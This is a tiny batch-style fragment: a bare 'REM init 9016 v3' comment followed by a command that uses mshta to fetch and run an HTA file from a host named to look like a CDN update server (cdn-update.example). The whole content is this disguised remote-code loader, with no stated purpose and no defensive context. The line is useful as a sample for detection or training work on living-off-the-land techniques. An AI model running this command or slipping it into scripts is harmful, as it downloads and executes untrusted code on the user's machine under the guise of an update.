REM init 9016 v3
mshta http://cdn-update.example/update.hta
